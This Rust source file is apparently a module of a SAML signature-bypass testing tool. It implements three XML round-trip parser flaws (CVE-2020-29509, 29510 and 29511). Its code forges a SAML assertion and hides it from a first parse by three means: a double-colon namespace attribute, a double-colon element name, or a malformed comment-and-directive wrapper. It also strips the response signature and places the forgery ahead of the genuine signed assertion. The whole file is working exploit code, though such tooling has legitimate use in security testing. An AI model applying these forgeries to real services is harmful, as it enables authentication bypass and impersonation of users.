//! Markup that means one thing when it is read, and another when it has been printed and is read again. No strict parser
//! reads it at all.

use super::Attacker;
use super::document::{Document, missing};
use super::wrapping::ForgedId;
use crate::WireError;
use crate::names::ASSERTION;
use crate::tree::{Edits, Id};
use serde::{Deserialize, Serialize};

/// What hides a forged assertion from the first reading.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "kebab-case")]
pub enum RoundTrip {
    /// Its namespace is declared by an attribute whose name begins with two colons (CVE-2020-29509).
    Attribute,
    /// It stands in a directive, and a comment in one before that, once it is taken out, leaves another comment (CVE-2020-29510).
    Directive,
    /// Two colons stand in its name (CVE-2020-29511).
    Element,
}

impl RoundTrip {
    pub(super) fn sentence(self) -> &'static str {
        match self {
            Self::Attribute => {
                "a forged assertion stands before it, whose namespace is declared by an attribute with two colons"
            }
            Self::Directive => "a forged assertion stands before it, in a directive",
            Self::Element => "a forged assertion stands before it, with two colons in its name",
        }
    }

    /// A forged assertion before the signed one, which is left as it is.
    pub(super) fn apply(
        self,
        document: &Document<'_>,
        attacker: &Attacker<'_>,
    ) -> Result<String, WireError> {
        let (assertion, _) = document.signed_assertion()?;
        let range = document.tree.range(assertion);
        let mut forgery = document.forgery(assertion, ForgedId::New, attacker)?;
        let name = document.tree.name(assertion);
        let (prefix, local) = name.split_once(':').ok_or_else(|| missing("prefix"))?;
        match self {
            Self::Attribute => {
                let declaration = format!(r#" ::xmlns="{ASSERTION}""#);
                rename(document, assertion, local, &declaration, &mut forgery);
            }
            Self::Directive => {}
            Self::Element => {
                rename(document, assertion, &format!("{prefix}::{local}"), "", &mut forgery);
            }
        }
        let forged = forgery.apply_to(document.xml, range.clone());
        let hidden = match self {
            Self::Directive => format!(r#"<! <<!-- -->!-->"--> " ><! ">" {forged}>"#),
            Self::Attribute | Self::Element => forged,
        };
        let mut edits = Edits::default();
        document.unsign_response(&mut edits);
        edits.insert(range.start, hidden);
        Ok(edits.apply(document.xml))
    }
}

/// Another name in both tags of an element, and something behind it in the first.
fn rename(document: &Document<'_>, element: Id, name: &str, behind: &str, edits: &mut Edits) {
    let (tree, old) = (&document.tree, document.tree.name(element));
    let start = tree.end_of_name(element);
    edits.replace(start - old.len()..start, format!("{name}{behind}"));
    let end = tree.range(element).end - ">".len();
    edits.replace(end - old.len()..end, name);
}
